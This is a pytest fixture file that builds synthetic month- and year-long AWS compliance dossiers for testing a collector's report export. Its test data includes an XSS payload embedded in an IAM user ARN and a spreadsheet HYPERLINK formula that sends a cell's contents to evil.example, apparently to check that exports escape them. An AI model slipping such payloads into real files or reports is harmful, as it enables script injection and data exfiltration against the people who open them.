"""A window that could have been: made by the same pure functions as a real one, from a script of what went wrong.

The script is in the fixtures below; ``Story`` only plays it. Hours are counted from the window's start.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from collector.canonical import digest
from collector.export.dossier import AlertLine, Change, CheckCard, ControlCard, Dossier, Item, RunItems
from collector.export.itself import Configured, own
from collector.export.life import lives
from collector.model import State
from collector.window.coverage import coverage
from collector.window.findings import Deviation, Stretch, deviations, finding
from collector.window.itself import Beat, Sign
from collector.window.slots import Declared, Plan, PlannedCheck, Ran, account_for, due
from tests.support.eventful import Eventful

HOUR = timedelta(hours=1)
GRACE = timedelta(minutes=15)
BERLIN = ZoneInfo("Europe/Berlin")
HOSTILE = "arn:aws:iam::111122223333:user/<script>alert('x')</script>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@dataclass(frozen=True)
class Trouble:
    """Subject ``subject`` of ``check`` is in ``state`` from hour ``since`` to hour ``until``."""

    check: str
    subject: str
    since: float
    until: float
    state: State = State.NOT_SATISFIED
    reason: str = ""


@dataclass
class Story:
    """What is planned and what goes wrong. ``build`` lives through it."""

    since: datetime
    until: datetime
    checks: dict[str, tuple[int, tuple[str, ...], tuple[str, ...]]]  # every_s, scopes, subjects
    controls: Sequence[ControlCard]
    account: str = "aws/111122223333"
    troubles: Sequence[Trouble] = ()
    down: Sequence[tuple[float, float, str]] = ()  # declared gaps of the whole account, hours
    missed: Sequence[tuple[float, float]] = ()  # hours in which nothing was written at all
    blind: Sequence[tuple[str, float, float, str]] = ()  # check, hours, why there was no population
    late: Sequence[tuple[float, float, int]] = ()  # hours, minutes
    twice: frozenset[float] = frozenset()  # hours whose slots are claimed by two runs
    older: frozenset[str] = frozenset()  # subjects that were already so five days before the window
    zone: ZoneInfo = BERLIN
    name: str = "2026-q1"
    titles: dict[str, str] = field(default_factory=dict)

    def at(self, hour: float) -> datetime:
        return self.since + hour * HOUR

    def _hour(self, moment: datetime) -> float:
        return (moment - self.since) / HOUR

    def _during(self, moment: datetime, spans: Sequence[tuple[float, ...]]) -> bool:
        return any(begin <= self._hour(moment) < end for begin, end, *_ in spans)

    def _state(self, check: str, subject: str, moment: datetime) -> tuple[State, str]:
        for t in self.troubles:
            if t.check == check and t.subject == subject and t.since <= self._hour(moment) < t.until:
                return t.state, t.reason
        return State.SATISFIED, "is as it should be"

    def _beats(self) -> list[Beat]:
        """One an hour, but while the account was not looked at at all; a process begins after each such time."""
        found: list[Beat] = []
        began, away = self.at(-1), True
        for hour in range(-1, -(-(self.until - self.since) // HOUR)):
            at = self.at(hour) + timedelta(seconds=2)
            if self._during(at, self.down) or self._during(at, self.missed):
                away = True
                continue
            began = at if away else began
            sign = Sign.START if away else Sign.BEAT
            process = ("host-1", began.isoformat())
            found.append(Beat(50_000 + hour, at, sign, process, "0.1.0", 3600, skew_ms=40 + hour % 7))
            away = False
        return found

    def build(self) -> Dossier:
        planned = tuple(PlannedCheck(id, scopes, every) for id, (every, scopes, _) in self.checks.items())
        plan = Plan(100, self.account, self.since, self.until, planned)
        dues = list(due([plan], self.since, self.until))
        gaps = [
            Declared(150 + i, self.account, (), self.at(a), self.at(b), why) for i, (a, b, why) in enumerate(self.down)
        ]
        runs: list[Ran] = []
        twins: list[Ran] = []
        seen: dict[int, list[tuple[str, State, str]]] = {}
        open_: dict[tuple[str, str, str], Stretch] = {}
        stretches: list[Stretch] = []
        blind: dict[tuple[str, str], Stretch] = {}
        seq = 200
        for item in dues:
            if self._during(item.at, self.down) or self._during(item.at, self.missed):
                continue
            minutes = next((m for a, b, m in self.late if a <= self._hour(item.at) < b), 0)
            started = item.at + timedelta(minutes=minutes, seconds=4, microseconds=250_000)
            finished = started + timedelta(seconds=21)
            seq += 1
            why = next((w for c, a, b, w in self.blind if c == item.check and a <= self._hour(item.at) < b), "")
            common = (seq, item.account, item.check, item.scope, item.at, started, finished)
            pair = (item.check, item.scope)
            if why:
                runs.append(Ran(*common, None, {}, "denied", why))
                if pair not in blind:
                    blind[pair] = Stretch(*pair, "", State.UNDETERMINED, why, seq, None, started, None)
                continue
            if pair in blind:
                stretches.append(replace(blind.pop(pair), to_run=seq, to_at=started))
            found = [(name, *self._state(item.check, name, item.at)) for name in self.checks[item.check][2]]
            counts = {state.value: sum(1 for _, s, _ in found if s is state) for state in State}
            runs.append(Ran(*common, len(found), counts, "", ""))
            seen[seq] = found
            if self._hour(item.at) in self.twice:
                seq += 1
                twins.append(replace(runs[-1], seq=seq))
            for name, state, reason in found:
                known = open_.get((*pair, name))
                if known is not None and known.state is state:
                    continue
                if known is not None:
                    stretches.append(replace(known, to_run=runs[-1].seq, to_at=started))
                begun, by = (self.at(-120), 40) if known is None and name in self.older else (started, runs[-1].seq)
                open_[*pair, name] = Stretch(*pair, name, state, reason, by, None, begun, None)
        stretches += open_.values()
        hand = replace(runs[0], seq=seq + 1, slot=None, started=self.at(5.5), finished=self.at(5.51))
        seen[hand.seq] = seen[runs[0].seq]
        slots = tuple(account_for(dues, [*runs, *twins], gaps, GRACE))
        subjects = [s for s in stretches if s.subject]
        blindness = (*(s for s in stretches if not s.subject), *blind.values())
        lines = coverage(slots, self.until)
        found_deviations = deviations(subjects, self.since, self.until)
        owner = {check: control for control in self.controls for check in control.checks}
        alerts = self._alerts([d for d in found_deviations if not d.began_before_window], blindness, owner, seq + 2)
        by_seq = {run.seq: run for run in runs} | {hand.seq: hand}
        changes = (
            Change(98, self.at(0), "key", "the ledger's key, from its first entry on"),
            Change(101, self.at(30), "config", "the grace was 10 min and is 15 min"),
        )

        def items() -> Iterator[RunItems]:
            for number, found in seen.items():
                run = by_seq[number]
                listed = [
                    Item(
                        name,
                        state.value,
                        reason,
                        {"subject": name, "good": state is State.SATISFIED}
                        if state is not State.UNDETERMINED
                        else None,
                        (f"{digest(name.encode())[:16]}",),
                    )
                    for name, state, reason in found
                ]
                yield RunItems(number, run.slot, run.check, run.scope, digest(repr(listed).encode()), listed)

        return Dossier(
            name=self.name,
            since=self.since,
            until=self.until,
            zone=self.zone,
            origin="evidence.example.com/platform",
            vkey="evidence.example.com/platform+3f9c41d2+AcuXV1h4zXcQdJTt2mCeq8nW7j6Q1Z0v1q1sQb8oP3Xk",
            exported_at=self.until + timedelta(hours=31, minutes=12),
            collector="0.1.0",
            first=98,
            last=alerts[-1].seq + 40 if alerts else seq + 40,
            assurance="Level 0 of 3: the ledger is signed by its own key and no copy of a checkpoint is held "
            "outside; whoever "
            "holds both the key and the database could have rewritten it as a whole.",
            controls=tuple(self.controls),
            checks=tuple(
                CheckCard(
                    id,
                    1,
                    digest(id.encode()),
                    self.titles.get(id, "Every subject is as it should be."),
                    "logging",
                    ("CC6.1",),
                    "stable",
                    {"days_max": 30} if "patch" in id else {},
                    99,
                )
                for id in self.checks
            ),
            slots=slots,
            runs_outside_slots=(hand,),
            coverage=tuple(lines),
            deviations=tuple(found_deviations),
            findings=tuple(finding(c.id, c.checks, lines, found_deviations) for c in self.controls),
            stretches=tuple(subjects),
            blind=tuple(blindness),
            alerts=tuple(alerts),
            changes=changes,
            items=items,
            own=own(
                self._beats(),
                Configured((), (), lambda digest: b""),
                slots,
                alerts,
                (),
                changes,
                self.since,
                self.until,
                GRACE,
            ),
            lives=lives(found_deviations, subjects, [*runs, hand], alerts, (), self.until),
            item_rows=sum(len(found) for found in seen.values()),
        )

    def _alerts(
        self, found: Sequence[Deviation], blind: Sequence[Stretch], owner: dict[str, ControlCard], seq: int
    ) -> list[AlertLine]:
        events = [
            (at, event, cause, thing.check, thing.scope, thing.subject, thing.reason)
            for cause, things in (
                ("failed", [(d, d.since, d.until) for d in found]),
                ("blind", [(s, s.from_at, s.to_at) for s in blind]),
            )
            for thing, begun, ended in things
            for event, at in (("trigger", begun), ("resolve", ended))
            if at is not None
        ]
        lines: list[AlertLine] = []
        for at, event, cause, check, scope, subject, reason in sorted(events):
            sent = at + timedelta(seconds=21)
            pager = [
                ("pager", "failed", sent + timedelta(seconds=2)),
                ("pager", "delivered", sent + timedelta(seconds=63)),
            ]
            lines.append(
                AlertLine(
                    seq=seq + len(lines),
                    at=sent,
                    key=f"{cause}:{check}:{scope}:{subject}",
                    event=event,
                    cause=cause,
                    check=check,
                    scope=scope,
                    subject=subject,
                    control=owner[check].id,
                    owner=owner[check].owner,
                    reason=reason if event == "trigger" else "is as it should be",
                    deliveries=(*pager, ("mail", "delivered", sent + timedelta(seconds=3))),
                )
            )
        return lines


ACCOUNT = "aws/111122223333"
REGIONS = tuple(f"{ACCOUNT}/{region}" for region in ("eu-central-1", "eu-west-1", "us-east-1"))
HOURLY, SIX_HOURLY, DAILY = 3600, 21_600, 86_400


def arn(kind: str, *names: str) -> tuple[str, ...]:
    return tuple(f"arn:aws:{kind}{name}" for name in names)


USERS = (*arn("iam::111122223333:user/", "amara.okafor", "deploy-legacy", "jiří.novák", "li.wei"), HOSTILE)
BUCKETS = arn("s3:::", "acme-invoices", "acme-logs", "acme-public-site", "acme-backups-eu")
CONTROLS = (
    ("ACC-01", "People reach the console with a second factor", "identity", ("CC6.1", "CC6.2"), HOURLY),
    ("ACC-02", "The root user is locked away and never without MFA", "identity", ("CC6.1",), DAILY),
    ("ACC-03", "Access keys are rotated within 90 days", "identity", ("CC6.1", "CC6.3"), DAILY),
    ("ENC-01", "Volumes and databases are encrypted with our own keys", "platform", ("CC6.1", "C1.1"), SIX_HOURLY),
    ("ENC-02", "Customer keys rotate every year", "platform", ("CC6.1",), DAILY),
    ("NET-01", "Load balancers speak TLS 1.2 or newer and nothing older", "edge", ("CC6.7",), HOURLY),
    ("NET-02", "Buckets refuse requests without TLS", "platform", ("CC6.7",), SIX_HOURLY),
    ("LOG-01", "Management events are recorded in every region", "security", ("CC7.2",), HOURLY),
    ("LOG-02", "Flow logs are on in every network", "security", ("CC7.2", "CC6.6"), SIX_HOURLY),
    ("PAT-01", "Machines are patched within 30 days", "platform", ("CC7.1",), DAILY),
    ("PAT-02", "No function runs on an outdated runtime", "applications", ("CC7.1", "CC8.1"), DAILY),
    ("HR-04", "Leavers' access is removed on their last day", "people", ("CC6.2",), DAILY),
)
CHECKS = {
    "aws-iam-user-mfa": ("ACC-01", HOURLY, (ACCOUNT,), USERS, "Every IAM user with a console password has MFA."),
    "aws-iam-root-mfa": ("ACC-02", DAILY, (ACCOUNT,), arn("iam::111122223333:", "root"), "The root user has MFA."),
    "aws-iam-key-age": ("ACC-03", DAILY, (ACCOUNT,), USERS, "No active access key is older than 90 days."),
    "aws-ec2-volume-encrypted": (
        "ENC-01",
        SIX_HOURLY,
        REGIONS,
        arn("ec2:eu-west-1:111122223333:volume/", "vol-0a1", "vol-0b2", "vol-0c3"),
        "Every volume is encrypted with a customer managed key.",
    ),
    "aws-rds-encrypted": ("ENC-01", SIX_HOURLY, REGIONS, (), "Every database is encrypted."),
    "aws-kms-rotation": (
        "ENC-02",
        DAILY,
        REGIONS,
        arn("kms:eu-west-1:111122223333:key/", "6f1c", "9a40"),
        "Every customer key rotates.",
    ),
    "aws-elb-tls": (
        "NET-01",
        HOURLY,
        REGIONS,
        arn("elasticloadbalancing:eu-west-1:111122223333:loadbalancer/app/", "shop/50dc6", "admin/91ab3"),
        "Every listener speaks TLS 1.2 or newer.",
    ),
    "aws-s3-tls": ("NET-02", SIX_HOURLY, (ACCOUNT,), BUCKETS, "Every bucket refuses requests without TLS."),
    "aws-cloudtrail-on": (
        "LOG-01",
        HOURLY,
        (ACCOUNT,),
        arn("cloudtrail:eu-west-1:111122223333:trail/", "org-trail"),
        "A trail records management events of every region.",
    ),
    "aws-vpc-flow-logs": (
        "LOG-02",
        SIX_HOURLY,
        REGIONS,
        arn("ec2:eu-west-1:111122223333:vpc/", "vpc-01", "vpc-02"),
        "Every network has a flow log.",
    ),
    "aws-ec2-patched": (
        "PAT-01",
        DAILY,
        REGIONS,
        arn("ec2:eu-west-1:111122223333:instance/", *(f"i-{n:04x}" for n in range(9))),
        "No critical patch is missing longer than the limit.",
    ),
    "aws-lambda-runtime": (
        "PAT-02",
        DAILY,
        (ACCOUNT,),
        (*arn("lambda:eu-west-1:111122223333:function:", "invoice", "thumbnail"), FORMULA),
        "Every function runs on a supported runtime.",
    ),
}


def month() -> Story:
    """30 days over the change to summer time, with everything that can happen to a slot."""
    return Story(
        since=datetime(2026, 3, 8, 23, tzinfo=UTC),
        until=datetime(2026, 4, 7, 22, tzinfo=UTC),
        checks={id: (every, scopes, subjects) for id, (_, every, scopes, subjects, _) in CHECKS.items()},
        titles={id: card[4] for id, card in CHECKS.items()},
        controls=[
            ControlCard(id, title, owner, criteria, tuple(c for c, card in CHECKS.items() if card[0] == id), cadence)
            for id, title, owner, criteria, cadence in CONTROLS
        ],
        troubles=(
            Trouble("aws-iam-user-mfa", USERS[1], 77, 122.5, reason="has a console password and no MFA"),
            Trouble("aws-iam-user-mfa", HOSTILE, 400, 401, reason="has a console password and no MFA"),
            Trouble("aws-iam-key-age", USERS[3], 0, 200, reason="has a key of 97 days; the limit is 90 days"),
            Trouble(
                "aws-elb-tls",
                arn("elasticloadbalancing:eu-west-1:111122223333:loadbalancer/app/", "admin/91ab3")[0],
                300,
                332,
                State.UNDETERMINED,
                "could not be read: throttled by elasticloadbalancing:DescribeListeners for 60 s",
            ),
            Trouble("aws-s3-tls", BUCKETS[2], 480, 2000, reason="has no bucket policy, so plain HTTP is answered"),
            Trouble(
                "aws-ec2-patched",
                arn("ec2:eu-west-1:111122223333:instance/", "i-0003")[0],
                240,
                480,
                reason="misses 2 critical patches, the older for 41 days; the limit is 30 days",
            ),
            Trouble("aws-lambda-runtime", FORMULA, 100, 400, reason="=runs on python3.8, unsupported since 2024-10-14"),
        ),
        down=((150, 198, "the collector was stopped for a move to another cluster"),),
        missed=((510, 513),),
        blind=(
            (
                "aws-vpc-flow-logs",
                560,
                584,
                "ec2:DescribeFlowLogs was denied; grant ec2:DescribeFlowLogs to the collector's role",
            ),
            ("aws-cloudtrail-on", 563, 569, "cloudtrail:DescribeTrails was denied; grant it to the collector's role"),
        ),
        late=((420, 426, 40),),
        twice=frozenset({24.0}),
        older=frozenset({USERS[3]}),
    )


@pytest.fixture(scope="session")
def dossier() -> Dossier:
    """One month of twelve controls, one of them without a check, with a bit of everything."""
    return month().build()


@pytest.fixture(scope="session")
def weekend() -> Dossier:
    """Two days of the same controls with one exception, for tests that write all tables and look at one."""
    one = Trouble("aws-iam-user-mfa", USERS[0], 10, 20, reason="has a console password and no MFA")
    quiet = replace(month(), down=(), missed=(), blind=(), late=(), troubles=(one,))
    return replace(quiet, until=quiet.since + timedelta(days=2)).build()


@pytest.fixture(scope="session")
def year() -> Dossier:
    """365 days, hourly, 26 checks, some of which break and mend every other hour: the largest report there is."""
    ids = [f"aws-service-{n:02d}" for n in range(26)]
    flapping: list[Trouble] = [
        Trouble(ids[n], "arn:aws:thing/1", float(hour), float(hour + 1), reason="is open to everybody")
        for n in (3, 11)
        for hour in range(0, 8760, 6)
    ]
    controls = [
        ControlCard(f"C-{n:02d}", f"Control {n}", "platform", ("CC6.1",), (id,), HOURLY) for n, id in enumerate(ids)
    ]
    since = datetime(2026, 1, 1, tzinfo=UTC)
    made = Story(
        since=since,
        until=since + timedelta(days=365),
        checks=dict.fromkeys(ids, (HOURLY, (ACCOUNT,), ("arn:aws:thing/1", "arn:aws:thing/2"))),
        controls=controls,
        down=((1000, 1048, "the cluster was down"),),
        zone=ZoneInfo("UTC"),
    )
    by_hour = {(t.check, t.subject, t.since): (t.state, t.reason) for t in flapping}

    class Quick(Story):
        def _state(self, check: str, subject: str, moment: datetime) -> tuple[State, str]:
            return by_hour.get((check, subject, self._hour(moment)), (State.SATISFIED, "is as it should be"))

    return Quick(**vars(made)).build()


@pytest.fixture
def rebuilt() -> Callable[[], Dossier]:
    """The same month made a second time, from nothing."""
    return lambda: month().build()


@pytest.fixture(scope="session")
def eventful(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Eventful]:
    """A day with decisions, acknowledgements, anchors and dropped payloads, in a real ledger. Nobody writes to it."""
    lived = Eventful(tmp_path_factory.mktemp("eventful") / "collector")
    yield lived
    lived.ledger.close()


@pytest.fixture(scope="session")
def packed(eventful: Eventful, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Its package. Nobody writes to it."""
    return eventful.export(tmp_path_factory.mktemp("packed") / "package").path
